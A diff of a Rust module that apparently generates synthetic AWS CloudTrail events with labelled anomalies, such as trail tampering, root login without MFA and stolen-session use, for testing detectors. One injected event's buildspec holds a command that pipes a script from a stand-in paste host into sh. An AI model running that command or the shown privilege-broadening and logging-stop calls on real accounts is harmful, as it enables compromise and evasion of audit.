@@ -2,11 +2,11 @@
 //! pipeline has a baseline before it, each written to `labels.jsonl` with the event and run ids
 //! that show it.
 
-use serde_json::{json, Value};
+use serde_json::{Value, json};
 
-use super::org::{Env, Kind, Pipeline};
-use super::trail::{assume_response, record, role_id, session_key, Call, Session, Who};
-use super::{iso_time, simulate_run, Day, Label, RunTweak};
+use super::org::{Env, Pipeline};
+use super::trail::{Call, Session, Who, assume_response, iso, record, session_key};
+use super::{Day, Label, RunTweak, simulate_run};
 
 /// The kinds of anomaly the generator injects.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -81,11 +81,22 @@ impl Anomaly {
 pub fn schedule(days: u32) -> Vec<(Anomaly, u32)> {
     let first = days - days / 3;
     let span = (days - first).max(1);
-    Anomaly::ALL.iter().enumerate().map(|(i, a)| (*a, (first + (i as u32 * span) / Anomaly::ALL.len() as u32).min(days - 1))).collect()
+    Anomaly::ALL
+        .iter()
+        .enumerate()
+        .map(|(i, a)| {
+            (
+                *a,
+                (first + (i as u32 * span) / Anomaly::ALL.len() as u32).min(days - 1),
+            )
+        })
+        .collect()
 }
 
 fn find<'a>(ps: &'a [Pipeline], id: &str) -> &'a Pipeline {
-    ps.iter().find(|p| p.id == id).expect("pipeline in the organisation")
+    ps.iter()
+        .find(|p| p.id == id)
+        .expect("pipeline in the organisation")
 }
 
 /// Injects one anomaly into the day; returns its label.
@@ -112,108 +123,356 @@ pub fn inject(day: &mut Day, kind: Anomaly, ps: &[Pipeline], n: usize) -> Label 
     match kind {
         Anomaly::UnknownPrincipal => {
             let t = at(13, 5);
-            let who = Who::IamUser { account: Env::Dev.account().into(), user: "contractor-tmp".into(), key: "AKIACONTRACTOR000042".into() };
-            let s = role_session(day, &prod, web.role, "contractor", t, None);
+            let who = Who::IamUser {
+                account: Env::Dev.account().into(),
+                user: "contractor-tmp".into(),
+                key: "AKIACONTRACTOR000042".into(),
+            };
+            let s = Session::new(&mut day.rng, &prod, web.role, "contractor".into(), t);
             let resp = assume_response(&mut day.rng, &s, json!({}));
             let ip = "45.83.64.12";
             let ua = "aws-cli/2.15.1 Python/3.11.6 Darwin/23.1.0 exe/x86_64";
-            let ev = record(&mut day.rng, Call { time: t, who: &who, source: "sts.amazonaws.com", name: "AssumeRole", region: "us-east-1", account: &prod, ip, ua,
-                request: json!({"roleArn": format!("arn:aws:iam::{prod}:role/{}", web.role), "roleSessionName": "contractor"}), response: resp, read_only: true, error: None });
+            let ev = record(
+                &mut day.rng,
+                Call {
+                    time: t,
+                    who: &who,
+                    source: "sts.amazonaws.com",
+                    name: "AssumeRole",
+                    region: "us-east-1",
+                    account: &prod,
+                    ip,
+                    ua,
+                    request: json!({"roleArn": format!("arn:aws:iam::{prod}:role/{}", web.role), "roleSessionName": "contractor"}),
+                    response: resp,
+                    read_only: true,
+                    error: None,
+                },
+            );
             label.event_ids.push(ev.id.clone());
             day.events.push(ev);
             let who = Who::Role(s);
             for (k, name) in ["ListBucket", "GetObject", "PutObject"].iter().enumerate() {
-                let req = super::trail::request_for(&mut day.rng, "s3.amazonaws.com", name, &prod, "us-east-1", "web");
-                let ev = record(&mut day.rng, Call { time: t + 30 + k as i64 * 20, who: &who, source: "s3.amazonaws.com", name, region: "us-east-1", account: &prod, ip, ua, request: req, response: Value::Null, read_only: *name != "PutObject", error: None });
+                let req = super::trail::request_for(
+                    &mut day.rng,
+                    "s3.amazonaws.com",
+                    name,
+                    &prod,
+                    "us-east-1",
+                    "web",
+                );
+                let ev = record(
+                    &mut day.rng,
+                    Call {
+                        time: t + 30 + k as i64 * 20,
+                        who: &who,
+                        source: "s3.amazonaws.com",
+                        name,
+                        region: "us-east-1",
+                        account: &prod,
+                        ip,
+                        ua,
+                        request: req,
+                        response: Value::Null,
+                        read_only: *name != "PutObject",
+                        error: None,
+                    },
+                );
                 label.event_ids.push(ev.id.clone());
                 day.events.push(ev);
             }
             label.pipeline = web.id.into();
             label.env = "prod".into();
-            label.time = iso_time(t);
+            label.time = iso(t);
             label.description = "IAM user contractor-tmp from the dev account assumed the web deploy role in prod and wrote to its bucket".into();
         }
         Anomaly::OffHoursDeploy => {
-            let (run, _, ids) = simulate_run(day, api, at(3, 17), &RunTweak { env: Some(Env::Prod), ..Default::default() });
-            fill(&mut label, api, &run, ids, "prod", "deploy of acme/api to prod at 03:17 UTC, hours the pipeline never runs");
+            let (run, _, ids) = simulate_run(
+                day,
+                api,
+                at(3, 17),
+                &RunTweak {
+                    env: Some(Env::Prod),
+                    ..Default::default()
+                },
+            );
+            fill(
+                &mut label,
+                api,
+                &run,
+                ids,
+                "prod",
+                "deploy of acme/api to prod at 03:17 UTC, hours the pipeline never runs",
+            );
         }
         Anomaly::NewRegion => {
-            let (run, _, ids) = simulate_run(day, web, at(14, 40), &RunTweak { region: Some("ap-southeast-1"), env: Some(Env::Prod), ..Default::default() });
-            fill(&mut label, web, &run, ids, "prod", "acme/web deployed in ap-southeast-1, a region it never used");
+            let (run, _, ids) = simulate_run(
+                day,
+                web,
+                at(14, 40),
+                &RunTweak {
+                    region: Some("ap-southeast-1"),
+                    env: Some(Env::Prod),
+                    ..Default::default()
+                },
+            );
+            fill(
+                &mut label,
+                web,
+                &run,
+                ids,
+                "prod",
+                "acme/web deployed in ap-southeast-1, a region it never used",
+            );
         }
         Anomaly::LongTermKey => {
-            let (run, _, ids) = simulate_run(day, web, at(11, 20), &RunTweak { long_term: Some(("deploy-web-ci".into(), "AKIADEPLOYWEBCI00007".into())), env: Some(Env::Prod), ..Default::default() });
-            fill(&mut label, web, &run, ids, "prod", "acme/web deployed with the long-term key of IAM user deploy-web-ci instead of its OIDC role");
+            let (run, _, ids) = simulate_run(
+                day,
+                web,
+                at(11, 20),
+                &RunTweak {
+                    long_term: Some(("deploy-web-ci".into(), "AKIADEPLOYWEBCI00007".into())),
+                    env: Some(Env::Prod),
+                    ..Default::default()
+                },
+            );
+            fill(
+                &mut label,
+                web,
+                &run,
+                ids,
+                "prod",
+                "acme/web deployed with the long-term key of IAM user deploy-web-ci instead of its OIDC role",
+            );
         }
         Anomaly::DevTouchesProd => {
-            let (run, _, ids) = simulate_run(day, mobile, at(15, 2), &RunTweak { env: Some(Env::Prod), ..Default::default() });
-            fill(&mut label, mobile, &run, ids, "prod", "the dev-only mobile-backend release pipeline assumed its role in the prod account and updated functions there");
+            let (run, _, ids) = simulate_run(
+                day,
+                mobile,
+                at(15, 2),
+                &RunTweak {
+                    env: Some(Env::Prod),
+                    ..Default::default()
+                },
+            );
+            fill(
+                &mut label,
+                mobile,
+                &run,
+                ids,
+                "prod",
+                "the dev-only mobile-backend release pipeline assumed its role in the prod account and updated functions there",
+            );
         }
         Anomaly::DefinitionChanged => {
             let t = at(16, 45);
-            let (who, ip, ua) = human(day, "bob", &tooling, "AWSReservedSSO_Developer_0a1b2c3d4e5f6789", t);
-            let ev = record(&mut day.rng, Call { time: t + 60, who: &who, source: "codebuild.amazonaws.com", name: "UpdateProject", region: "us-east-1", account: &tooling, ip: &ip, ua: &ua,
-                request: json!({"name": "payments-build", "source": {"type": "CODEPIPELINE", "buildspec": "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://paste.example/x.sh | sh\n"},
-                    "serviceRole": format!("arn:aws:iam::{tooling}:role/bob-admin-role")}), response: json!({"project": {"name": "payments-build"}}), read_only: false, error: None });
+            let (who, ip, ua) = human(
+                day,
+                "bob",
+                &tooling,
+                "AWSReservedSSO_Developer_0a1b2c3d4e5f6789",
+                t,
+            );
+            let ev = record(
+                &mut day.rng,
+                Call {
+                    time: t + 60,
+                    who: &who,
+                    source: "codebuild.amazonaws.com",
+                    name: "UpdateProject",
+                    region: "us-east-1",
+                    account: &tooling,
+                    ip: &ip,
+                    ua: &ua,
+                    request: json!({"name": "payments-build", "source": {"type": "CODEPIPELINE", "buildspec": "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s https://paste.example/x.sh | sh\n"},
+                    "serviceRole": format!("arn:aws:iam::{tooling}:role/bob-admin-role")}),
+                    response: json!({"project": {"name": "payments-build"}}),
+                    read_only: false,
+                    error: None,
+                },
+            );
             label.event_ids.push(ev.id.clone());
             day.events.push(ev);
-            let ev = record(&mut day.rng, Call { time: t + 240, who: &who, source: "codepipeline.amazonaws.com", name: "UpdatePipeline", region: "us-east-1", account: &tooling, ip: &ip, ua: &ua,
-                request: json!({"pipeline": {"name": "payments-release", "roleArn": format!("arn:aws:iam::{tooling}:role/codepipeline-payments-release"), "version": 5,
-                    "stages": [{"name": "Source"}, {"name": "Build"}, {"name": "Deploy"}]}}), response: json!({"pipeline": {"name": "payments-release", "version": 5}}), read_only: false, error: None });
+            let ev = record(
+                &mut day.rng,
+                Call {
+                    time: t + 240,
+                    who: &who,
+                    source: "codepipeline.amazonaws.com",
+                    name: "UpdatePipeline",
+                    region: "us-east-1",
+                    account: &tooling,
+                    ip: &ip,
+                    ua: &ua,
+                    request: json!({"pipeline": {"name": "payments-release", "roleArn": format!("arn:aws:iam::{tooling}:role/codepipeline-payments-release"), "version": 5,
+                    "stages": [{"name": "Source"}, {"name": "Build"}, {"name": "Deploy"}]}}),
+                    response: json!({"pipeline": {"name": "payments-release", "version": 5}}),
+                    read_only: false,
+                    error: None,
+                },
+            );
             label.event_ids.push(ev.id.clone());
             day.events.push(ev);
             label.pipeline = "codepipeline:payments-release".into();
             label.env = "tooling".into();
-            label.time = super::iso_time(t + 60);
+            label.time = iso(t + 60);
             label.description = "developer bob changed the payments-build buildspec and service role, and removed the Approval stage of payments-release".into();
         }
         Anomaly::PipelineRoleBroadened => {
             let t = at(10, 12);
-            let (who, ip, ua) = human(day, "dave", &tooling, "AWSReservedSSO_AdministratorAccess_5e0c1b2a3d4f6789", t);
-            let ev = record(&mut day.rng, Call { time: t + 30, who: &who, source: "iam.amazonaws.com", name: "AttachRolePolicy", region: "us-east-1", account: &tooling, ip: &ip, ua: &ua,
-                request: json!({"roleName": "codebuild-payments-build", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}), response: Value::Null, read_only: false, error: None });
+            let (who, ip, ua) = human(
+                day,
+                "dave",
+                &tooling,
+                "AWSReservedSSO_AdministratorAccess_5e0c1b2a3d4f6789",
+                t,
+            );
+            let ev = record(
+                &mut day.rng,
+                Call {
+                    time: t + 30,
+                    who: &who,
+                    source: "iam.amazonaws.com",
+                    name: "AttachRolePolicy",
+                    region: "us-east-1",
+                    account: &tooling,
+                    ip: &ip,
+                    ua: &ua,
+                    request: json!({"roleName": "codebuild-payments-build", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
+                    response: Value::Null,
+                    read_only: false,
+                    error: None,
+                },
+            );
             label.event_ids.push(ev.id.clone());
             day.events.push(ev);
-            let ev = record(&mut day.rng, Call { time: t + 90, who: &who, source: "iam.amazonaws.com", name: "PutRolePolicy", region: "us-east-1", account: &tooling, ip: &ip, ua: &ua,
-                request: json!({"roleName": "codebuild-payments-build", "policyName": "temp-fix", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}), response: Value::Null, read_only: false, error: None });
+            let ev = record(
+                &mut day.rng,
+                Call {
+                    time: t + 90,
+                    who: &who,
+                    source: "iam.amazonaws.com",
+                    name: "PutRolePolicy",
+                    region: "us-east-1",
+                    account: &tooling,
+                    ip: &ip,
+                    ua: &ua,
+                    request: json!({"roleName": "codebuild-payments-build", "policyName": "temp-fix", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}),
+                    response: Value::Null,
+                    read_only: false,
+                    error: None,
+                },
+            );
             label.event_ids.push(ev.id.clone());
             day.events.push(ev);
             label.pipeline = "codebuild:payments-build".into();
             label.env = "tooling".into();
-            label.time = super::iso_time(t + 30);
+            label.time = iso(t + 30);
             label.description = "AdministratorAccess attached and a * inline policy put on the payments-build service role".into();
         }
         Anomaly::TrailTampering => {
             let t = at(21, 33);
-            let (who, ip, ua) = human(day, "dave", &prod, "AWSReservedSSO_AdministratorAccess_5e0c1b2a3d4f6789", t);
+            let (who, ip, ua) = human(
+                day,
+                "dave",
+                &prod,
+                "AWSReservedSSO_AdministratorAccess_5e0c1b2a3d4f6789",
+                t,
+            );
             let trail = format!("arn:aws:cloudtrail:us-east-1:{prod}:trail/org-trail");
-            let ev = record(&mut day.rng, Call { time: t + 20, who: &who, source: "cloudtrail.amazonaws.com", name: "PutEventSelectors", region: "us-east-1", account: &prod, ip: &ip, ua: &ua,
-                request: json!({"trailName": trail, "eventSelectors": [{"readWriteType": "ReadOnly", "includeManagementEvents": false, "dataResources": [], "excludeManagementEventSources": []}]}), response: json!({"trailARN": trail}), read_only: false, error: None });
+            let ev = record(
+                &mut day.rng,
+                Call {
+                    time: t + 20,
+                    who: &who,
+                    source: "cloudtrail.amazonaws.com",
+                    name: "PutEventSelectors",
+                    region: "us-east-1",
+                    account: &prod,
+                    ip: &ip,
+                    ua: &ua,
+                    request: json!({"trailName": trail, "eventSelectors": [{"readWriteType": "ReadOnly", "includeManagementEvents": false, "dataResources": [], "excludeManagementEventSources": []}]}),
+                    response: json!({"trailARN": trail}),
+                    read_only: false,
+                    error: None,
+                },
+            );
             label.event_ids.push(ev.id.clone());
             day.events.push(ev);
-            let ev = record(&mut day.rng, Call { time: t + 80, who: &who, source: "cloudtrail.amazonaws.com", name: "StopLogging", region: "us-east-1", account: &prod, ip: &ip, ua: &ua,
-                request: json!({"name": trail}), response: Value::Null, read_only: false, error: None });
+            let ev = record(
+                &mut day.rng,
+                Call {
+                    time: t + 80,
+                    who: &who,
+                    source: "cloudtrail.amazonaws.com",
+                    name: "StopLogging",
+                    region: "us-east-1",
+                    account: &prod,
+                    ip: &ip,
+                    ua: &ua,
+                    request: json!({"name": trail}),
+                    response: Value::Null,
+                    read_only: false,
+                    error: None,
+                },
+            );
             label.event_ids.push(ev.id.clone());
             day.events.push(ev);
             label.pipeline = "".into();
             label.env = "prod".into();
-            label.time = super::iso_time(t + 20);
-            label.description = "event selectors of the trail narrowed to read-only, then logging stopped, in prod".into();
+            label.time = iso(t + 20);
+            label.description =
+                "event selectors of the trail narrowed to read-only, then logging stopped, in prod"
+                    .into();
         }
         Anomaly::AccessDeniedBurst => {
             let t = at(2, 40);
-            let (run, session, mut ids) = simulate_run(day, infra, t, &RunTweak { env: Some(Env::Prod), ..Default::default() });
+            let (run, session, _) = simulate_run(
+                day,
+                infra,
+                t,
+                &RunTweak {
+                    env: Some(Env::Prod),
+                    ..Default::default()
+                },
+            );
             if let Some(s) = session {
                 let who = Who::Role(s);
                 let ip = "20.55.14.9";
-                let probes: &[(&str, &str)] = &[("iam.amazonaws.com", "ListUsers"), ("iam.amazonaws.com", "ListAccessKeys"), ("secretsmanager.amazonaws.com", "ListSecrets"),
-                    ("s3.amazonaws.com", "ListBuckets"), ("kms.amazonaws.com", "ListKeys"), ("organizations.amazonaws.com", "ListAccounts"), ("ssm.amazonaws.com", "DescribeParameters")];
+                let probes: &[(&str, &str)] = &[
+                    ("iam.amazonaws.com", "ListUsers"),
+                    ("iam.amazonaws.com", "ListAccessKeys"),
+                    ("secretsmanager.amazonaws.com", "ListSecrets"),
+                    ("s3.amazonaws.com", "ListBuckets"),
+                    ("kms.amazonaws.com", "ListKeys"),
+                    ("organizations.amazonaws.com", "ListAccounts"),
+                    ("ssm.amazonaws.com", "DescribeParameters"),
+                ];
                 for k in 0..60 {
                     let (src, name) = probes[k % probes.len()];
-                    let ev = record(&mut day.rng, Call { time: t + 600 + k as i64 * 4, who: &who, source: src, name, region: "us-east-1", account: &prod, ip, ua: "Boto3/1.34.0 Python/3.11.4 Linux/6.5.0 Botocore/1.34.0",
-                        request: Value::Null, response: Value::Null, read_only: true,
-                        error: Some(("AccessDenied".into(), format!("User is not authorized to perform: {}:{name}", src.split('.').next().unwrap_or("")))) });
-                    ids.push(ev.id.clone());
+                    let ev = record(
+                        &mut day.rng,
+                        Call {
+                            time: t + 600 + k as i64 * 4,
+                            who: &who,
+                            source: src,
+                            name,
+                            region: "us-east-1",
+                            account: &prod,
+                            ip,
+                            ua: "Boto3/1.34.0 Python/3.11.4 Linux/6.5.0 Botocore/1.34.0",
+                            request: Value::Null,
+                            response: Value::Null,
+                            read_only: true,
+                            error: Some((
+                                "AccessDenied".into(),
+                                format!(
+                                    "User is not authorized to perform: {}:{name}",
+                                    src.split('.').next().unwrap_or("")
+                                ),
+                            )),
+                        },
+                    );
                     label.event_ids.push(ev.id.clone());
                     day.events.push(ev);
                 }
@@ -221,42 +480,128 @@ pub fn inject(day: &mut Day, kind: Anomaly, ps: &[Pipeline], n: usize) -> Label 
             label.run_ids.push(run.id.clone());
             label.pipeline = infra.id.into();
             label.env = "prod".into();
-            label.time = super::iso_time(t + 600);
+            label.time = iso(t + 600);
             label.description = "60 AccessDenied in 4 minutes from the terraform role session, listing users, keys, secrets and accounts".into();
-            let _ = ids;
         }
         Anomaly::VolumeSpike => {
-            let (run, _, ids) = simulate_run(day, etl, at(1, 5), &RunTweak { volume: 25.0, ..Default::default() });
-            fill(&mut label, etl, &run, ids, "tooling", "data-etl-build made about 25 times its usual number of calls");
+            let (run, _, ids) = simulate_run(
+                day,
+                etl,
+                at(1, 5),
+                &RunTweak {
+                    volume: 25.0,
+                    ..Default::default()
+                },
+            );
+            fill(
+                &mut label,
+                etl,
+                &run,
+                ids,
+                "tooling",
+                "data-etl-build made about 25 times its usual number of calls",
+            );
         }
         Anomaly::RootNoMfa => {
             let t = at(6, 55);
-            let root = Who::Root { account: prod.clone(), key: Some(String::new()) };
+            let root = Who::Root {
+                account: prod.clone(),
+                key: Some(String::new()),
+            };
             let ip = "91.219.236.18";
             let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36";
-            let mut ev = record(&mut day.rng, Call { time: t, who: &root, source: "signin.amazonaws.com", name: "ConsoleLogin", region: "us-east-1", account: &prod, ip, ua,
-                request: Value::Null, response: json!({"ConsoleLogin": "Success"}), read_only: false, error: None });
+            let mut ev = record(
+                &mut day.rng,
+                Call {
+                    time: t,
+                    who: &root,
+                    source: "signin.amazonaws.com",
+                    name: "ConsoleLogin",
+                    region: "us-east-1",
+                    account: &prod,
+                    ip,
+                    ua,
+                    request: Value::Null,
+                    response: json!({"ConsoleLogin": "Success"}),
+                    read_only: false,
+                    error: None,
+                },
+            );
             ev.record["additionalEventData"] = json!({"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"});
             label.event_ids.push(ev.id.clone());
             day.events.push(ev);
-            let root = Who::Root { account: prod.clone(), key: Some(session_key(&mut day.rng)) };
-            let ev = record(&mut day.rng, Call { time: t + 120, who: &root, source: "iam.amazonaws.com", name: "CreateAccessKey", region: "us-east-1", account: &prod, ip, ua,
-                request: Value::Null, response: json!({"accessKey": {"accessKeyId": "AKIAROOTNEWKEY000001", "status": "Active"}}), read_only: false, error: None });
+            let root = Who::Root {
+                account: prod.clone(),
+                key: Some(session_key(&mut day.rng)),
+            };
+            let ev = record(
+                &mut day.rng,
+                Call {
+                    time: t + 120,
+                    who: &root,
+                    source: "iam.amazonaws.com",
+                    name: "CreateAccessKey",
+                    region: "us-east-1",
+                    account: &prod,
+                    ip,
+                    ua,
+                    request: Value::Null,
+                    response: json!({"accessKey": {"accessKeyId": "AKIAROOTNEWKEY000001", "status": "Active"}}),
+                    read_only: false,
+                    error: None,
+                },
+            );
             label.event_ids.push(ev.id.clone());
             day.events.push(ev);
             label.env = "prod".into();
-            label.time = super::iso_time(t);
-            label.description = "root signed in to the prod account without MFA and created an access key".into();
+            label.time = iso(t);
+            label.description =
+                "root signed in to the prod account without MFA and created an access key".into();
         }
         Anomaly::ForeignNetwork => {
-            let (run, session, _) = simulate_run(day, api, at(14, 0), &RunTweak { env: Some(Env::Prod), ..Default::default() });
+            let (run, session, _) = simulate_run(
+                day,
+                api,
+                at(14, 0),
+                &RunTweak {
+                    env: Some(Env::Prod),
+                    ..Default::default()
+                },
+            );
             if let Some(s) = session {
                 let who = Who::Role(s);
                 let ip = "185.220.101.45";
                 for k in 0..6 {
-                    let (src, name, ro) = if k == 5 { ("secretsmanager.amazonaws.com", "GetSecretValue", true) } else { ("s3.amazonaws.com", "GetObject", true) };
-                    let req = super::trail::request_for(&mut day.rng, src, name, &prod, "us-east-1", "api");
-                    let ev = record(&mut day.rng, Call { time: at(14, 40) + k * 15, who: &who, source: src, name, region: "us-east-1", account: &prod, ip, ua: "python-requests/2.31.0", request: req, response: Value::Null, read_only: ro, error: None });
+                    let (src, name, ro) = if k == 5 {
+                        ("secretsmanager.amazonaws.com", "GetSecretValue", true)
+                    } else {
+                        ("s3.amazonaws.com", "GetObject", true)
+                    };
+                    let req = super::trail::request_for(
+                        &mut day.rng,
+                        src,
+                        name,
+                        &prod,
+                        "us-east-1",
+                        "api",
+                    );
+                    let ev = record(
+                        &mut day.rng,
+                        Call {
+                            time: at(14, 40) + k * 15,
+                            who: &who,
+                            source: src,
+                            name,
+                            region: "us-east-1",
+                            account: &prod,
+                            ip,
+                            ua: "python-requests/2.31.0",
+                            request: req,
+                            response: Value::Null,
+                            read_only: ro,
+                            error: None,
+                        },
+                    );
                     label.event_ids.push(ev.id.clone());
                     day.events.push(ev);
                 }
@@ -264,56 +609,85 @@ pub fn inject(day: &mut Day, kind: Anomaly, ps: &[Pipeline], n: usize) -> Label 
             label.run_ids.push(run.id);
             label.pipeline = api.id.into();
             label.env = "prod".into();
-            label.time = super::iso_time(at(14, 40));
+            label.time = iso(at(14, 40));
             label.description = "the acme/api deploy session's credentials were used from 185.220.101.45, outside GitHub's runners, to read objects and a secret".into();
         }
         Anomaly::UnusualTrigger => {
             let tweak = RunTweak {
-                trigger: Some(("workflow_dispatch", "mallory".into(), "hotfix/tmp".into(), json!({"skip_checks": "true", "reason": "urgent"}))),
+                trigger: Some((
+                    "workflow_dispatch",
+                    "mallory".into(),
+                    "hotfix/tmp".into(),
+                    json!({"skip_checks": "true", "reason": "urgent"}),
+                )),
                 env: Some(Env::Prod),
                 ..Default::default()
             };
             let (run, _, ids) = simulate_run(day, web, at(19, 50), &tweak);
-            fill(&mut label, web, &run, ids, "prod", "acme/web deployed to prod from branch hotfix/tmp by mallory through workflow_dispatch with skip_checks=true");
+            fill(
+                &mut label,
+                web,
+                &run,
+                ids,
+                "prod",
+                "acme/web deployed to prod from branch hotfix/tmp by mallory through workflow_dispatch with skip_checks=true",
+            );
         }
     }
     label
 }
 
-fn fill(label: &mut Label, p: &Pipeline, run: &super::builds::Run, ids: Vec<String>, env: &str, desc: &str) {
+fn fill(
+    label: &mut Label,
+    p: &Pipeline,
+    run: &super::builds::Run,
+    ids: Vec<String>,
+    env: &str,
+    desc: &str,
+) {
     label.pipeline = p.id.into();
     label.run_ids.push(run.id.clone());
     label.event_ids = ids;
     label.env = env.into();
-    label.time = super::iso_time(run.start);
+    label.time = iso(run.start);
     label.description = desc.into();
-}
-
-fn role_session(day: &mut Day, account: &str, role: &str, name: &str, t: i64, invoked_by: Option<&str>) -> Session {
-    Session {
-        account: account.into(),
-        role: role.into(),
-        name: name.into(),
-        key: session_key(&mut day.rng),
-        role_id: role_id(account, role),
-        created: t,
-        web_provider: None,
-        mfa: false,
-        source_identity: None,
-        invoked_by: invoked_by.map(str::to_string),
-    }
 }
 
 /// A person's SSO session in an account (the AssumeRoleWithSAML call is recorded too).
 fn human(day: &mut Day, person: &str, account: &str, role: &str, t: i64) -> (Who, String, String) {
-    let s = role_session(day, account, role, &format!("{person}@acme.example"), t, None);
+    let s = Session::new(
+        &mut day.rng,
+        account,
+        role,
+        format!("{person}@acme.example"),
+        t,
+    );
     let ip = format!("{}{}", super::org::OFFICE_NET, 50);
     let ua = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36".to_string();
-    let saml = Who::Saml { provider_arn: format!("arn:aws:iam::{account}:saml-provider/AWSSSO_6d1f2e3c4b5a6978_DO_NOT_DELETE"), user: s.name.clone() };
+    let saml = Who::Saml {
+        provider_arn: format!(
+            "arn:aws:iam::{account}:saml-provider/AWSSSO_6d1f2e3c4b5a6978_DO_NOT_DELETE"
+        ),
+        user: s.name.clone(),
+    };
     let resp = assume_response(&mut day.rng, &s, json!({"subjectType": "persistent"}));
-    let ev = record(&mut day.rng, Call { time: t, who: &saml, source: "sts.amazonaws.com", name: "AssumeRoleWithSAML", region: "us-east-1", account, ip: &ip, ua: &ua,
-        request: json!({"roleArn": format!("arn:aws:iam::{account}:role/aws-reserved/sso.amazonaws.com/{role}")}), response: resp, read_only: true, error: None });
+    let ev = record(
+        &mut day.rng,
+        Call {
+            time: t,
+            who: &saml,
+            source: "sts.amazonaws.com",
+            name: "AssumeRoleWithSAML",
+            region: "us-east-1",
+            account,
+            ip: &ip,
+            ua: &ua,
+            request: json!({"roleArn": format!("arn:aws:iam::{account}:role/aws-reserved/sso.amazonaws.com/{role}")}),
+            response: resp,
+            read_only: true,
+            error: None,
+        },
+    );
     day.events.push(ev);
-    let _ = Kind::Jenkins;
     (Who::Role(s), ip, ua)
 }
